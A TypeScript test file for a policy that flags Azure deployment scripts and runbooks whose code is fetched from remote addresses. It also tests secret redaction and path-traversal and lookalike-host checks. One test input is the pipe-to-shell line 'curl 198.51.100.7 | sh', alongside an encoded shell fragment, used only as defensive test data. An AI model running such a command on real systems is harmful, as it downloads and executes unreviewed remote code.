import assert from "node:assert/strict";
import { factsOf } from "../../compute/facts-of";
import { type Tree, Withheld } from "../../compute/value";
import fetchedScript from "../../policies/fetched-script";
import type { Example } from "../../policies/policy";
import { estateOf, violations } from "./kit";

const trusting = estateOf({ trustedTemplates: ["https://scripts.contoso.com/approved/*"] });
const said = (token: string, inputs: Tree, estate = estateOf()): readonly string[] =>
  violations(fetchedScript, [token, inputs] as Example, estate).map(({ path, message }) => `${path}: ${message}`);

const elsewhere = "https://files.example.com/setup.sh";
const script = "azure-native:resources:AzureCliScript";

/** A template that holds one resource, as Azure deploys it. */
const deployed = (type: string, properties: Tree): Tree => ({
  properties: {
    mode: "Incremental",
    template: { resources: [{ type, apiVersion: "2023-08-01", name: "a", properties }] },
  },
});

describe("a script that Azure fetches", () => {
  const deployment = "azure-native:resources:Deployment";
  const fetched: readonly (readonly [what: string, token: string, inputs: Tree])[] = [
    ["deployment script", script, { primaryScriptUri: elsewhere }],
    ["deployment script", script, { scriptContent: "./setup.sh", supportingScriptUris: [elsewhere] }],
    ["deployment script", "azure-native:resources/v20230801:AzurePowerShellScript", { primaryScriptUri: elsewhere }],
    [
      "deployment script",
      "azure:core/resourceDeploymentScriptPowerShell:ResourceDeploymentScriptPowerShell",
      { primaryScriptUri: elsewhere },
    ],
    [
      "deployment script",
      deployment,
      deployed("Microsoft.Resources/deploymentScripts", { primaryScriptUri: elsewhere }),
    ],
    [
      "deployment script",
      "azapi:resource:Resource",
      {
        type: "Microsoft.Resources/deploymentScripts@2023-08-01",
        body: { properties: { primaryScriptUri: elsewhere } },
      },
    ],
    ["runbook", "azure-native:automation:Runbook", { publishContentLink: { uri: elsewhere } }],
    ["runbook", "azure-native:automation:Runbook", { draft: { draftContentLink: { uri: elsewhere } } }],
    [
      "runbook",
      deployment,
      deployed("Microsoft.Automation/automationAccounts/runbooks", { publishContentLink: { uri: elsewhere } }),
    ],
    [
      "repository of runbooks",
      "azure-native:automation:SourceControl",
      { repoUrl: "https://git.example.com/runbooks" },
    ],
  ];
  for (const [what, token, inputs] of fetched)
    it(`is told of: ${what} of ${token} ${JSON.stringify(inputs).slice(0, 60)}`, () => {
      const [first, ...others] = said(token, inputs);
      assert.deepEqual(others, []);
      assert.match(
        first ?? "",
        new RegExp(`: the ${what} is fetched from elsewhere, so what it creates cannot be judged;`),
      );
    });

  it("is told of where its address cannot be seen", () => {
    for (const state of ["unknown", "expression", "hidden"] as const)
      assert.deepEqual(
        said(script, { primaryScriptUri: new Withheld(state) }),
        ["primaryScriptUri: the deployment script is fetched from elsewhere, so what it creates cannot be judged"],
        state,
      );
  });

  it("is never quoted with what opens it", () => {
    const [message = ""] = said(script, { primaryScriptUri: `${elsewhere}?sv=2022-11-02&sig=c2VjcmV0` });
    assert.match(message, /- "https:\/\/files\.example\.com\/setup\.sh\?\*"$/);
    assert.doesNotMatch(message, /sig|c2VjcmV0/);
  });

  it("is not quoted where it is no address, for it may be the script itself", () => {
    for (const written of [
      "IyEvYmluL3NoCnRhaWwgLW4rMyAkMHxn",
      "curl 198.51.100.7 | sh",
      "ftp://files.example.com/a.sh",
    ])
      assert.deepEqual(said(script, { primaryScriptUri: written }), [
        "primaryScriptUri: the deployment script is fetched from elsewhere, so what it creates cannot be judged",
      ]);
  });

  it("passes with the line that the message offers", () => {
    const [message = ""] = said(script, { primaryScriptUri: elsewhere });
    const line = /- "(.*)"$/.exec(message)?.[1] ?? "";
    assert.deepEqual(said(script, { primaryScriptUri: elsewhere }, estateOf({ trustedTemplates: [line] })), []);
  });

  it("passes from a trusted folder, and not from one that it leaves", () => {
    const from = (address: string) => said(script, { primaryScriptUri: address }, trusting).length;
    assert.equal(from("https://scripts.contoso.com/approved/tidy.sh"), 0);
    assert.equal(from("https://scripts.contoso.com/approved/%2e%2e/drafts/tidy.sh"), 1);
    assert.equal(from("https://scripts.contoso.com.example.net/approved/tidy.sh"), 1);
  });

  const quiet: readonly (readonly [token: string, inputs: Tree])[] = [
    [script, { scriptContent: "az group list" }],
    [script, { scriptContent: "az group list", supportingScriptUris: [] }],
    ["azure-native:automation:Runbook", { runbookType: "Python3", draft: {} }],
    // modules hold functions; nothing of them runs by itself
    ["azure-native:automation:Module", { contentLink: { uri: elsewhere } }],
    // runs in a machine, with the rights that the machine has
    [
      "azure-native:compute:VirtualMachineExtension",
      { publisher: "Microsoft.Azure.Extensions", type: "CustomScript", settings: { fileUris: [elsewhere] } },
    ],
    ["azure-native:web:WebAppSourceControl", { repoUrl: "https://git.example.com/shop" }],
  ];
  for (const [token, inputs] of quiet)
    it(`is not: ${token} ${JSON.stringify(inputs).slice(0, 60)}`, () => {
      assert.ok(factsOf(token, inputs), "the resource is read");
      assert.deepEqual(said(token, inputs), []);
    });
});
